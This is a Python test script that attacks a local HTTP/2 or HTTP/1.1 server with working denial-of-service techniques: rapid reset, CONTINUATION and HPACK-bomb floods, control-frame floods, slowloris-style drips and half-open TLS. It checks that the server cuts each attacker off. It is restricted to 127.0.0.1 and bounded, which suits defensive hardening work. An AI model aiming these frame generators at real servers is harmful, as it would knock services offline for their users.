#!/usr/bin/env python3
"""Attacks a server of HTTP/2 or HTTP/1.1 on this machine, and reports when it cut the attacker off.

    attack.py NAME PORT [--count N] [--tls] [--seconds N]
    attack.py all PORT              every attack, one after another

Only against 127.0.0.1. The count and the time are bounded. Needs Python's standard library alone.
Prints one line for each attack: its name, what was sent, and what ended it. Exits with 1 when an attack was not cut off.
"""
import argparse
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = b"/3/device/" + b"5a" * 32


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, length = len(value) - 127, b"\x7f"
    while rest >= 128:
        length += bytes([rest & 0x7F | 0x80])
        rest >>= 7
    return length + bytes([rest]) + value


def request():
    """POST, http, the path and an authority, without the dynamic table."""
    return b"\x83\x86\x04" + text(PATH) + b"\x01" + text(b"localhost")


def headers(stream, flags=0x5, block=None):
    return frame(1, flags, stream, request() if block is None else block)


def settings_flood(count):
    for _ in range(count):
        yield frame(4)


def ping_flood(count):
    for _ in range(count):
        yield frame(6, 0, 0, b"12345678")


def rapid_reset(count):
    for number in range(count):
        yield headers(2 * number + 1) + frame(3, 0, 2 * number + 1, b"\0\0\0\x08")


def bad_streams(count):
    """Streams that the server has to reset: a window that overflows."""
    for number in range(count):
        stream = 2 * number + 1
        yield headers(stream, 0x4) + frame(8, 0, stream, b"\x7f\xff\xff\xff")


def empty_data(count):
    yield headers(1, 0x4)
    for _ in range(count):
        yield frame(0, 0, 1)


def continuation_flood(count):
    yield headers(1, 0x1)
    for _ in range(count):
        yield frame(9, 0, 1, b"\x01" + text(b"x" * 100))


def hpack_bomb(count):
    """A header of 3,900 bytes in the dynamic table, and then one byte for each time that it is repeated."""
    block = request() + b"\x40" + text(b"bomb") + text(b"b" * 3900)
    yield headers(1, 0x5, block + b"\xbe" * 10_000)
    for number in range(1, min(count, 1000)):
        yield headers(2 * number + 1, 0x5, request() + b"\xbe" * 10_000)


def window_updates(count):
    for _ in range(count):
        yield frame(8, 0, 0, b"\0\0\0\x01")


FLOODS = {
    "settings": settings_flood, "ping": ping_flood, "rapid-reset": rapid_reset, "bad-streams": bad_streams,
    "empty-data": empty_data, "continuation": continuation_flood, "hpack-bomb": hpack_bomb,
    "window-updates": window_updates,
}


def connect(options):
    connection = socket.create_connection(("127.0.0.1", options.port), timeout=10)
    if not options.tls:
        return connection
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(connection)


def drain(connection, until):
    """Reads until the server ends the connection; False when the time is over first."""
    connection.settimeout(0.2)
    while time.monotonic() < until:
        try:
            if not connection.recv(65536):
                return True
        except (TimeoutError, ssl.SSLWantReadError):
            continue
        except OSError:
            return True
    return False


def flood(name, options):
    connection, sent, start = connect(options), 0, time.monotonic()
    end = start + options.seconds
    try:
        connection.sendall(PREFACE + frame(4))
        # Several frames at a time, or the attack would be slower than the server.
        batch = b""
        for piece in FLOODS[name](options.count):
            batch += piece
            sent += 1
            if len(batch) > 16_000:
                connection.sendall(batch)
                batch = b""
                if time.monotonic() > end:
                    break
        connection.sendall(batch)
        # What is there is answered before the last word.
        is_ended = drain(connection, min(end, time.monotonic() + 2))
    except OSError:
        is_ended = True
    print(f"{name:16} {'cut off' if is_ended else 'NOT CUT OFF':12} {sent} frames, {time.monotonic() - start:.2f} s")
    return is_ended


def slow(name, opening, dripped, options):
    """Sends some bytes, and then one a second."""
    connection, start = connect(options), time.monotonic()
    try:
        connection.sendall(opening)
        is_ended = False
        while not is_ended and time.monotonic() < start + options.seconds:
            is_ended = drain(connection, time.monotonic() + 1)
            if not is_ended:
                connection.sendall(dripped)
    except OSError:
        is_ended = True
    print(f"{name:16} {'cut off' if is_ended else 'NOT CUT OFF':12} {time.monotonic() - start:.2f} s")
    return is_ended


def half_open_tls(options):
    """The first bytes of a handshake, and then one a second."""
    options = argparse.Namespace(**{**vars(options), "tls": False})
    return slow("half-open-tls", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"a", options)


SLOW = {
    "slow-headers": lambda options: slow("slow-headers", b"GET / HTTP/1.1\r\nx: ", b"a", options),
    "slow-body": lambda options: slow(
        "slow-body", b"POST /3/device/5a HTTP/1.1\r\nhost: a\r\ncontent-length: 1000\r\n\r\n", b"a", options),
    "slow-h2-headers": lambda options: slow("slow-h2-headers", PREFACE + frame(4) + headers(1, 0x1), b"", options),
    "half-open-tls": half_open_tls,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=["all", *FLOODS, *SLOW])
    parser.add_argument("port", type=int)
    parser.add_argument("--count", type=int, default=20_000, help="frames, at most 1,000,000")
    parser.add_argument("--seconds", type=float, default=45, help="at most 120")
    parser.add_argument("--tls", action="store_true")
    options = parser.parse_args()
    options.count, options.seconds = min(options.count, 1_000_000), min(options.seconds, 120)
    names = [*FLOODS, *(name for name in SLOW if name != "half-open-tls")] if options.name == "all" else [options.name]
    results = [flood(name, options) if name in FLOODS else SLOW[name](options) for name in names]
    return 0 if all(results) else 1


if __name__ == "__main__":
    sys.exit(main())
